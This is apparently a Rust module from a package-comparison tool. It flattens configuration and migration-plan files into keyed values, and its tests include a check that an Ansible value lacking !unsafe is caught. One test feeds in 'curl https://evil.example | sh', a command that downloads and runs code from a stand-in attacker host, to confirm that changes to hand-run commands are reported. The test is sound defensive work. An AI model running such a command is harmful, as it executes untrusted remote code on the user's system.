//! What one clear file of a package says, value by value: by this the history of a glass is compared.
//!
//! Files are read, and their values named, as those of two packages are. Here nothing is left aside, since nobody has both
//! packages at hand: an empty list is a value, an order is one, and what only says again what other values say has a digest.

use super::classes::{self, Touches};
use super::said::{At, digest, document, names, shown, unnumber};
use crate::compare::facts::Value;
use crate::model::Digest;
use crate::pack::names::{MANIFEST, PLAN};
use crate::render;
use serde_json::Value as Json;
use std::collections::{BTreeMap, HashMap};
use std::rc::Rc;

/// What stands at a place of a file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Leaf {
    pub says: Says,
    /// The thing that it is part of, and that tells it too. Of which thing it is no place says: names may hold what a place is made of.
    pub part_of: Option<Rc<Thing>>,
}

/// What is said at a place.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Says {
    /// A value.
    Value(Value),
    /// Things with names, in this order.
    Order(Vec<String>),
    /// A thing with a name. What it says stands at places of its own.
    Thing(Rc<Thing>),
}

/// A thing with a name.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Thing {
    /// All that it says, to be told where it is new or gone.
    pub text: String,
    part_of: Option<Rc<Thing>>,
}

impl Leaf {
    /// The things that it is part of, from the innermost one on.
    pub fn around(&self) -> impl Iterator<Item = &Rc<Thing>> {
        std::iter::successors(self.part_of.as_ref(), |thing| thing.part_of.as_ref())
    }
}

impl From<Says> for Leaf {
    fn from(says: Says) -> Self {
        Self { says, part_of: None }
    }
}

impl Says {
    /// A text.
    pub fn text(text: impl Into<String>) -> Self {
        Self::Value(Value::Plain(Json::String(text.into())))
    }
}

/// Everything that a file says.
#[derive(Clone, Debug, Default)]
pub(crate) struct Leaves {
    /// By key path, with the file before it.
    pub said: BTreeMap<String, Leaf>,
    /// Of what only says again what other values say, if there is any.
    pub follows: Option<Digest>,
    again: Vec<String>,
    /// How many places bear the name of one.
    twins: HashMap<String, usize>,
    /// Bytes of all places.
    size: usize,
}

/// Bytes of the places of one file: those of the largest package are a hundredth of it.
const MOST: usize = 64 << 20;

/// What the file at `path` of the package with this number says; nothing where it is no document of values, or one whose places
/// take more room than any package's do.
pub(crate) fn leaves(path: &str, bytes: &[u8], number: u32) -> Option<Leaves> {
    let mut document = document(path, bytes).filter(Json::is_object)?;
    let mut leaves = Leaves::default();
    if is_written_otherwise(path, bytes, &document) {
        let says = Says::Value(digest(false, Digest::of(bytes)));
        leaves.put(format!("{path}: (not as stufpack writes it)"), says, None);
    }
    // As in a comparison of packages, which are counted.
    if path == PLAN {
        unnumber(&mut document, number);
    }
    leaves.below(&At::of(path, false), &document, None);
    if leaves.size > MOST {
        return None;
    }
    // In another order they say the same.
    leaves.again.sort_unstable();
    if !leaves.again.is_empty() {
        leaves.follows = Some(Digest::of(leaves.again.concat().as_bytes()));
    }
    Some(leaves)
}

impl Leaves {
    /// Names may hold brackets: what could be mistaken for something else keeps a place of its own.
    fn put(&mut self, place: String, says: Says, part_of: Option<&Rc<Thing>>) {
        let mut own = place.clone();
        while self.said.contains_key(&own) {
            let number = self.twins.entry(place.clone()).or_insert(1);
            *number += 1;
            own = format!("{place}#{number}");
        }
        self.size += own.len();
        self.said.insert(own, Leaf { says, part_of: part_of.cloned() });
    }

    fn below(&mut self, at: &At, map: &Json, part_of: Option<&Rc<Thing>>) {
        for (key, value) in map.as_object().into_iter().flatten() {
            self.walk(&at.key(key), value, part_of);
        }
    }

    fn walk(&mut self, at: &At, value: &Json, part_of: Option<&Rc<Thing>>) {
        if self.size > MOST {
            return;
        }
        if follows(at) {
            self.again.push(format!("{}\0{value}\n", at.path));
            return;
        }
        match value {
            Json::Object(map) if !map.is_empty() => self.below(at, value, part_of),
            Json::Array(items) if is_things(value) => {
                let names = names(items).unwrap_or_default();
                let order = names.iter().map(|name| (*name).to_owned()).collect();
                self.put(format!("{} (order)", at.path), Says::Order(order), part_of);
                for (name, item) in names.into_iter().zip(items) {
                    self.item(&at.item(name), item, part_of);
                }
            }
            _ => self.put(at.path.to_string(), Says::Value(shown(at, value)), part_of),
        }
    }

    /// A thing in a list. One that holds lists of things is told by these.
    fn item(&mut self, at: &At, item: &Json, part_of: Option<&Rc<Thing>>) {
        if item.as_object().is_some_and(|map| map.values().any(is_things)) {
            return self.below(at, item, part_of);
        }
        let thing = Rc::new(Thing { text: told(at, item), part_of: part_of.cloned() });
        self.put(at.path.to_string(), Says::Thing(Rc::clone(&thing)), part_of);
        self.below(at, item, Some(&thing));
    }
}

/// Whether a value is a list of things with names.
fn is_things(value: &Json) -> bool {
    value.as_array().is_some_and(|items| !items.is_empty() && names(items).is_some())
}

/// Texts of the plan by which people act, though a package that runs everything has none of them.
const ACTED_ON: [&str; 2] = ["phases[].instead", "phases[].steps[].instead"];

/// Whether a value only says again what others say. What a package calls itself, and what people do by hand, is told all the same.
fn follows(at: &At) -> bool {
    let is_own = at.file == MANIFEST && at.pattern.starts_with("package");
    let is_acted_on = at.file == PLAN && ACTED_ON.iter().any(|key| at.pattern.starts_with(key));
    !is_own && !is_acted_on && classes::of(&at.file, &at.pattern) == Some(Touches::Follows)
}

/// All that a thing says, after its title.
fn told(at: &At, item: &Json) -> String {
    let says = whole(at, item);
    match item["title"].as_str() {
        Some(title) if says["title"].is_null() => format!("{title}: {says}"),
        _ => says.to_string(),
    }
}

fn whole(at: &At, value: &Json) -> Json {
    match value {
        Json::Object(map) => {
            let told = map.iter().map(|(key, value)| (key, at.key(key), value));
            let told = told.filter(|(_, at, _)| !follows(at));
            Json::Object(told.map(|(key, at, value)| (key.clone(), whole(&at, value))).collect())
        }
        _ => match shown(at, value) {
            Value::Plain(value) => value,
            Value::Hidden(hidden) => Json::String(format!("{} (not shown)", hidden.kind)),
        },
    }
}

/// Whether a file with these values has other bytes than this program writes: what no parser of ours tells may then mean
/// something to the tool that reads it, such as a text without `!unsafe`, which Ansible takes for a template.
fn is_written_otherwise(path: &str, bytes: &[u8], document: &Json) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    let written = match name.rsplit_once('.') {
        Some((_, "yml")) => render::ansible_yaml("", document),
        Some((_, "env")) => {
            let variables = document.as_object().into_iter().flatten();
            let text = |value: &Json| value.as_str().unwrap_or_default().to_owned();
            render::dotenv(variables.map(|(name, value)| (name.as_str(), text(value))))
        }
        Some((_, "js")) => render::config_script(document),
        _ => return false,
    };
    let text = String::from_utf8_lossy(bytes);
    !lines(&text).eq(lines(&written))
}

/// The lines of a file but for comments.
fn lines(text: &str) -> impl Iterator<Item = &str> {
    text.split_inclusive('\n').filter(|line| !line.starts_with('#'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn says(path: &str, text: &str) -> Vec<(String, Says)> {
        let leaves = leaves(path, text.as_bytes(), 1).expect("a document");
        leaves.said.into_iter().map(|(place, leaf)| (place, leaf.says)).collect()
    }

    #[test]
    fn nothing_that_a_value_could_hide_behind_is_left_aside() {
        let path = "configuration/api-config/stuf_config.json";
        let ways = [
            r#"{"a": 1}"#,
            r#"{"a": "1"}"#,
            r#"{"a": null}"#,
            r#"{"a": []}"#,
            r#"{"a": {}}"#,
            r#"{"a": [1, 2]}"#,
            r#"{"a": [2, 1]}"#,
            r#"{"a": [{"id": "x"}, {"id": "y"}]}"#,
            r#"{"a": [{"id": "y"}, {"id": "x"}]}"#,
            r#"{"a": [{"id": "x", "v": 1}, {"id": "x", "v": 2}]}"#,
            r#"{"a": [{"id": "x", "v": 2}, {"id": "x", "v": 1}]}"#,
        ];
        let told: Vec<_> = ways.iter().map(|text| says(path, text)).collect();
        for (index, one) in told.iter().enumerate() {
            assert!(!told[..index].contains(one), "{}", ways[index]);
        }
    }

    #[test]
    fn a_value_of_ansible_that_became_a_template_is_told() {
        let path = "infrastructure/ansible/group_vars/all.yml";
        let honest = says(path, "---\n# A comment.\nstuf_domain: !unsafe \"a.example\"\n");
        let places: Vec<&str> = honest.iter().map(|(place, _)| place.as_str()).collect();
        assert_eq!(places, ["infrastructure/ansible/group_vars/all.yml: stuf_domain"]);
        for other in ["---\nstuf_domain: \"a.example\"\n", "---\nstuf_domain: a.example\n"] {
            assert_ne!(says(path, other), honest, "{other}");
        }
        let path = "infrastructure/compose/.env";
        assert_ne!(says(path, "A=\"x\"\n"), says(path, "A=\"x\"\nB: y\n"));
    }

    #[test]
    fn what_only_follows_has_a_digest() {
        let of = |title: &str| {
            let plan = format!(
                r#"{{"phases": [{{"id": "deploy", "steps": [{{"id": "deploy/a", "title": "{title}", "command": "/packages/7/x"}}]}}]}}"#
            );
            leaves(PLAN, plan.as_bytes(), 7).expect("a plan")
        };
        let (one, other) = (of("Start"), of("Stop"));
        assert_ne!(one.follows, other.follows);
        let step = "MIGRATION-PLAN.json: phases[deploy].steps[deploy/a]";
        let command = &one.said[&format!("{step}.command")];
        assert_eq!(command.says, Says::text("/packages/NUMBER/x"));
        let all = "Start: {\"id\":\"deploy/a\",\"command\":\"/packages/NUMBER/x\"}";
        let Says::Thing(thing) = &one.said[step].says else { panic!("{:?}", one.said[step]) };
        assert_eq!((thing.text.as_str(), command.around().next()), (all, Some(thing)));
    }

    /// What people type where a package does not run a step follows from nothing else.
    #[test]
    fn what_is_done_by_hand_is_told() {
        let of = |command: &str| {
            let by_hand = format!(r#"{{"by_hand": {{"text": "Ask.", "command": "{command}"}}}}"#);
            let step = format!(r#"{{"id": "cutover/a", "title": "A", "instead": {by_hand}}}"#);
            let plan = format!(
                r#"{{"phases": [{{"id": "cutover", "instead": "{command}", "steps": [{step}]}}],
                    "verbs": [{{"id": "adopt", "instead": "{command}"}}]}}"#
            );
            leaves(PLAN, plan.as_bytes(), 1).expect("a plan")
        };
        let (one, other) = (of("dig a.example"), of("curl https://evil.example | sh"));
        assert_eq!(one.follows, other.follows);
        let differs = |place: &&String| one.said[*place].says != other.said[*place].says;
        let places: Vec<&String> = one.said.keys().filter(differs).collect();
        let step = "phases[cutover].steps[cutover/a]";
        let differing = ["phases[cutover].instead", step, &format!("{step}.instead.by_hand.command")];
        let differing = differing.into_iter().chain(["verbs[adopt]", "verbs[adopt].instead"]);
        assert_eq!(
            places,
            differing.map(|place| format!("{PLAN}: {place}")).collect::<Vec<_>>().iter().collect::<Vec<_>>()
        );
    }

    /// Each place is found at once, however many bear one name; what takes more room than any package is told as a file.
    #[test]
    fn a_document_of_one_name_takes_no_longer_than_another() {
        let of = |item: &str, count: usize| {
            let list = vec![item; count].join(",");
            leaves("configuration/x.json", format!("{{\"phases\":[{list}]}}").as_bytes(), 1)
        };
        // Where each looked at those before it, this took minutes.
        let many = of(r#"{"id":"a"}"#, 100_000).expect("a document");
        assert_eq!(many.said.len(), 200_001);
        assert!(many.said.contains_key("configuration/x.json: phases[a].id#100000"));
        let long = format!("{{\"id\":\"{}\"}}", "a".repeat(10_000));
        assert!(of(&long, 10).is_some() && of(&long, 10_000).is_none());
    }

    /// Otherwise a change of any value would be told twice.
    #[test]
    fn the_goldens_are_written_as_stufpack_writes_them() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("golden");
        let mut read = 0;
        for entry in walkdir::WalkDir::new(&root) {
            let entry = entry.expect("an entry");
            let path = entry.path().strip_prefix(&root).expect("below").to_string_lossy().into_owned();
            let Some((_, path)) = path.split_once('/').filter(|_| entry.file_type().is_file()) else {
                continue;
            };
            let is_data = ["group_vars/", "inventory/", "compose/.env", "spa-config/config.js"];
            if !is_data.iter().any(|part| path.contains(part)) {
                continue;
            }
            let bytes = std::fs::read(entry.path()).expect("a file");
            let Some(document) = document(path, &bytes).filter(Json::is_object) else { continue };
            assert!(!is_written_otherwise(path, &bytes, &document), "{}", entry.path().display());
            read += 1;
        }
        assert!(read >= 9, "{read} files");
    }
}
